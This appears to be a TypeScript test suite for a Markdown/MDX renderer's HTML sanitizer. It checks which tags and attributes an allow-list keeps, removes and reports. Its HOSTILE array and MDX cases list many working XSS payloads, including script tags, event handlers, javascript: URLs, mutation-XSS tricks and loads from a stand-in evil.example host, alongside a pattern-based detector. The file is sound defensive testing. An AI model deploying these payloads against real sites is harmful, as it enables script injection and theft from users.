/** Raw HTML: what the allow-list keeps, what it takes away and tells. */
import { fromHtml } from 'hast-util-from-html';
import { visit } from 'unist-util-visit';
import { describe, expect, test } from 'vitest';
import { html, render, told } from './helpers.ts';

describe('raw HTML', () => {
  test.each([
    [
      'inline',
      'Un <sup>e</sup> <abbr title="Société">St</abbr> <q cite="https://a.fr">q</q> <kbd>K</kbd>',
      '<p>Un <sup>e</sup> <abbr title="Société">St</abbr> <q cite="https://a.fr">q</q> <kbd>K</kbd></p>',
    ],
    [
      'opened in one block and closed in another',
      '<div lang="en" dir="ltr">\n\n*one*\n\n</div>\n\n*deux*',
      '<div lang="en" dir="ltr">\n<p><em>one</em></p>\n</div>\n<p><em>deux</em></p>',
    ],
    [
      'of a fold',
      '<details open>\n<summary>Plus</summary>\n\nTexte\n\n</details>',
      '<details open>\n<summary>Plus</summary>\n<p>Texte</p>\n</details>',
    ],
    ['of definitions', '<dl>\n<dt>A</dt>\n<dd>B</dd>\n</dl>', '<dl>\n<dt>A</dt>\n<dd>B</dd>\n</dl>'],
    [
      'of marks in time',
      '<time datetime="2022-04-04">4 avril</time> <ins datetime="2022-04-05">x</ins>',
      '<p><time datetime="2022-04-04">4 avril</time> <ins datetime="2022-04-05">x</ins></p>',
    ],
    [
      'of lists',
      '<ol start="3" reversed>\n<li value="7">a\n</ol>',
      '<ol start="3" reversed>\n<li value="7">a\n</li></ol>',
    ],
    [
      'obsolete, as its successor',
      '<center>c</center>\n\n<strike>s</strike> <acronym title="A">a</acronym> <tt>t</tt>',
      '<div class="align-center">c</div>\n<p><s>s</s> <abbr title="A">a</abbr> <code>t</code></p>',
    ],
    ['of old anchors', '<a name="ici"></a> <a id="la">x</a>', '<p><a id="ici"></a> <a id="la">x</a></p>'],
    [
      'with attributes that say nothing more',
      '<a href="https://a.fr" target="_blank" rel="nofollow">a</a>',
      '<p><a href="https://a.fr">a</a></p>',
    ],
    [
      'badly nested, as browsers mend it',
      '<b>un <i>deux</b> trois</i>',
      '<p><b>un <i>deux</i></b><i> trois</i></p>',
    ],
    ['of comments', 'a <!-- b --> c\n\n<!-- d\n\ne -->\n\nf', '<p>a  c</p>\n\n<p>f</p>'],
    ['escaped', '&lt;script> \\<b> `<i>`', '<p>&lt;script&gt; &lt;b&gt; <code>&lt;i&gt;</code></p>'],
  ])('%s', (_, markdown, expected) => {
    expect(html(markdown)).toBe(expected);
  });

  test('gives its anchors to links', () => {
    expect(render('<p id="un">a</p>\n\n## Deux\n\n<a name="trois"></a>').anchors).toEqual([
      'un',
      'trois',
      'deux',
    ]);
  });

  test('that is taken away is told where it stands, once for each kind', () => {
    const result = render(
      [
        'Un <b onclick="a()" class="x">gras</b> et <script>alert(1)</script>',
        '',
        '<iframe src="https://video.exemple/1"></iframe>',
        '',
        '<p style="color: red" align="justify"><font color="red">rouge</font> <font>deux</font></p>',
        '<form action="/x"><input name="a"><button>OK</button></form>',
        '',
        '<p id="a">1</p><p id="a">2</p><p id="note-1">3</p><p id="_pied">4</p>',
      ].join('\n'),
    );
    expect(result.body.replace(/\n+/g, '\n')).toBe(
      '<p>Un <b>gras</b> et </p>\n<p>rouge deux</p>\nOK\n<p id="a">1</p><p>2</p><p>3</p><p>4</p>',
    );
    expect(told(result).map((line) => line.replace(/ →.*/, ''))).toEqual([
      'error 10:4 L’attribut `onclick` de `<b>` exécuterait du code chez le lecteur ; il est retiré.',
      'warning 10:4 L’attribut `class` de `<b>` n’est pas admis avec cette valeur ; il est retiré.',
      'error 10:43 L’élément HTML `<script>` n’est pas admis : il exécute, charge ou demande quelque chose ; il est retiré.',
      'error 12:1 Un cadre `<iframe>` montrait « https://video.exemple/1 » : une page d’archives ne charge rien d’un autre site ; il est retiré.',
      'warning 14:1 L’attribut `style` de `<p>` n’est pas admis avec cette valeur ; il est retiré.',
      'warning 14:1 L’attribut `align` de `<p>` n’est pas admis avec cette valeur ; il est retiré.',
      'warning 14:39 L’élément HTML `<font>` n’est pas admis : seul son contenu est gardé (2 fois dans ce fichier).',
      'error 15:1 L’élément HTML `<form>` n’est pas admis : il exécute, charge ou demande quelque chose ; il est retiré.',
      'error 15:19 L’élément HTML `<input>` n’est pas admis : il exécute, charge ou demande quelque chose ; il est retiré.',
      'error 15:35 L’élément HTML `<button>` n’est pas admis : il exécute, charge ou demande quelque chose ; il est retiré.',
      'warning 17:16 L’identifiant « a » est déjà pris dans cette page, réservé au site, ou contient une espace ; il est retiré.',
      'warning 17:31 L’identifiant « note-1 » est déjà pris dans cette page, réservé au site, ou contient une espace ; il est retiré.',
      'warning 17:51 L’identifiant « _pied » est déjà pris dans cette page, réservé au site, ou contient une espace ; il est retiré.',
    ]);
  });

  test('a frame is told with the link to put in its place', () => {
    expect(told(render('<iframe src="https://video.exemple/1"></iframe>'))[0]).toMatch(
      /→ Mettez un lien à la place : `\[Voir la vidéo\]\(https:\/\/video\.exemple\/1\)`\.$/,
    );
  });
});

/** Ways by which HTML has run code, loaded from elsewhere or taken over a page. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<SCRIPT>alert(1)</SCRIPT >',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR="alert(1)">',
  '<img src=x:x onerror\n=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="javascript:alert(1)" alt="x">',
  '<img srcset="//evil.example/x 1x" alt="x" src="affiche.png">',
  '<img alt="x" src="affiche.png" style="background:url(//evil.example)">',
  '<picture><source srcset="//evil.example/x"><img src="affiche.png" alt="x"></picture>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="//evil.example/x.svg#y"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<style>@import "//evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="//evil.example/x.swf">',
  '<applet code=x></applet>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<input type=image src=//evil.example/x onerror=alert(1)>',
  '<textarea></textarea><script>alert(1)</script>',
  '<select onchange=alert(1)><option>x</select>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src="affiche.png" onloadstart=alert(1) poster="//evil.example/x"></video>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=//evil.example/x.mp3 autoplay></audio>',
  '<body onload=alert(1)>',
  '<html onclick=alert(1)><head><title>x</title></head>',
  '<template><script>alert(1)</script></template>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav\nascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT&#58;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://a.fr" ping="//evil.example">x</a>',
  '<a href="https://a.fr" onmouseover="alert(1)">x</a>',
  '<q cite="javascript:alert(1)">x</q>',
  '<table background="//evil.example/x"><tr><td background="//evil.example/y">x</td></tr></table>',
  '<p id="x" onclick=alert(1) is="evil-element" nonce="x" slot="y">x</p>',
  '<x-evil onclick=alert(1)>x</x-evil>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '[x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x](https://a.fr "\\" onmouseover=alert(1) \\"")',
  '![x" onerror="alert(1)](affiche.png)',
  '```"onclick=alert(1)\nx\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  ':::note[<script>alert(1)</script>]{titre="<img src=x onerror=alert(1)>"}\n<script>alert(1)</script>\n:::',
  'x[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
];

const SAFE_SCHEME = /^(?:https?:|mailto:|tel:|#|\/(?!\/))/i;

/** What a browser would find in the HTML that could run, load or take over. */
function dangers(output: string): string[] {
  const found: string[] = [];
  visit(fromHtml(output, { fragment: true }), 'element', ({ tagName, properties }) => {
    if (
      /^(?:script|style|iframe|object|embed|form|base|link|meta|svg|math|template|button|select|textarea)$/.test(
        tagName,
      )
    ) {
      found.push(`<${tagName}>`);
    }
    for (const [name, value] of Object.entries(properties)) {
      if (
        /^on|^style$|^srcdoc$|^formaction$|^ping$|^background$|^poster$|^is$|^nonce$|^autoplay$|^name$/i.test(
          name,
        )
      )
        found.push(name);
      if (/^(?:href|src|cite|data|action|srcSet)$/i.test(name) && !SAFE_SCHEME.test(String(value))) {
        found.push(`${name}=${value}`);
      }
      if (name !== 'href' && name !== 'cite' && name !== 'alt' && /evil\.example/.test(String(value)))
        found.push(`${name}=${value}`);
    }
  });
  return found;
}

describe('hostile HTML', () => {
  test('would be found if it came through', () => {
    const sound = HOSTILE.filter((markdown) => dangers(markdown).length === 0);
    expect(sound.length).toBeLessThan(25);
    expect(dangers('<img src=x onerror=alert(1)>')).toEqual(['src=x', 'onError']);
  });

  test.each(HOSTILE)('%j', (markdown) => {
    for (const format of ['md', 'mdx'] as const) {
      for (const body of [
        markdown,
        `Texte ${markdown} fin`,
        `- ${markdown.replaceAll('\n', '\n  ')}`,
        `<div>\n${markdown}\n</div>`,
      ]) {
        const {
          lead,
          body: output,
          notes,
          postscript,
        } = render(body, {
          format,
          lead: { text: markdown, line: 2 },
        });
        for (const part of [lead, output, notes, postscript])
          expect(dangers(part), `${format}: ${body}`).toEqual([]);
      }
    }
  });

  test('the same in MDX as elements and components', () => {
    const jsx = [
      '<script>alert(1)</script>',
      '<img src="x" onError={"alert(1)"} alt="x" />',
      '<a href={"javascript:alert(1)"}>x</a>',
      '<div dangerouslySetInnerHTML={{__html: "<script>alert(1)</script>"}} />',
      '<div style={{background: "url(//evil.example)"}}>x</div>',
      '<Note titre={"<img src=x onerror=alert(1)>"}>x</Note>',
      '<Citation source="</cite><script>alert(1)</script>">x</Citation>',
      '<constructor>x</constructor>',
      '<__proto__ />',
      '<toString />',
      '<Note {...{onclick: "x"}} onClick="alert(1)" __proto__="x">x</Note>',
    ];
    for (const body of jsx) expect(dangers(render(body, { format: 'mdx' }).body), body).toEqual([]);
  });
});

describe('links and images in code', () => {
  test('lead and load nowhere else than those of the text', () => {
    const { body, problems } = render(
      '<code>[clic](javascript:alert(1))</code>\n\n<pre><a href="javascript:alert(1)">ici</a> <img src="https://traceur.exemple/p.gif" alt="x"></pre>\n\n`[x](y)`\n\n    [^1]',
    );
    expect(problems.map(({ code }) => code)).toEqual(['unsafe-link', 'unsafe-link', 'remote-image']);
    expect(body).not.toMatch(/javascript|https:/);
    expect(body).toContain('<code>[x](y)</code>');
  });
});
